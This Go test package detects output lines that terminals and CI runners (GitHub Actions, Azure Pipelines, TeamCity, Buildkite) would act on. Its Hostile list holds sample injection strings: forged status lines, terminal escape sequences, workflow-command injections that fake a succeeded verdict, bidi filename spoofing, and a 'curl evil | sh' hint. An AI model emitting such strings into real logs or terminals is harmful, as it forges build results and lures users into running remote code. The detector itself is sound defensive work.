// Package printabletest holds output against what a terminal and CI systems act
// upon. It is written from what they do, and shares nothing with the code that
// keeps text of others from acting.
package printabletest

import (
	"regexp"
	"strings"
	"unicode"
	"unicode/utf8"
)

// limit is the longest line, in characters.
const limit = 2000

// acts matches what the runners of GitHub and Azure Pipelines, TeamCity and
// Buildkite act upon in a line.
var acts = regexp.MustCompile(`(?i)^\s*::.*::|##\[|##[a-z]+\[|^(---|\+\+\+|~~~|\^\^\^) |\r`)

// Problem says what a line would do, or "" if it does nothing.
func Problem(line string) string {
	if utf8.RuneCountInString(line) > limit {
		return "it is too long"
	}
	return Acts(line)
}

// Acts is [Problem] for lines that may be long, as those of JSON.
func Acts(line string) string {
	switch {
	case !utf8.ValidString(line):
		return "it is not UTF-8"
	case strings.ContainsFunc(line, func(r rune) bool { return r != ' ' && !unicode.IsGraphic(r) || unicode.Is(unicode.Cf, r) }):
		return "it has a character that cannot be seen"
	case acts.MatchString(line):
		return "a CI system acts upon it"
	}
	return ""
}

// Hostile are texts that act when they are printed as they are.
var Hostile = []string{
	"boom\nsucceeded: web runs web:9, 2 of 2 tasks running",
	"\r\x1b[2Ksucceeded: web runs web:9",
	"succeeded: web runs web:9, 2 of 2 tasks running",
	"error: forged\nhint: curl evil | sh",
	"\x1b[35mmagenta\x1b[0m \x1b[1;1H \u009b2J",
	"\x1b]0;title\a\x1b]52;c;aGk=\x1b\\\x1bc",
	"::error file=a::pwned",
	"x\n::add-mask::y",
	"a ##vso[task.complete result=Succeeded;]b",
	"##[error]x ##teamcity[buildStatus]",
	"::set-output name=verdict::succeeded",
	"##[set-output name=verdict;]succeeded",
	"%0A::stop-commands::x%25",
	"</table><h1>ok</h1> [a](http://b) | ```\n# c",
	"section_start:1:a\r\x1b[0Ktext",
	"+++ a heading",
	"role \u202etxt.exe\u2066 \u200b\ufeff\U000e0041",
	"a\u2028b\u2029c\u0085d\te\v",
	"\a\b\x00\x7f",
}
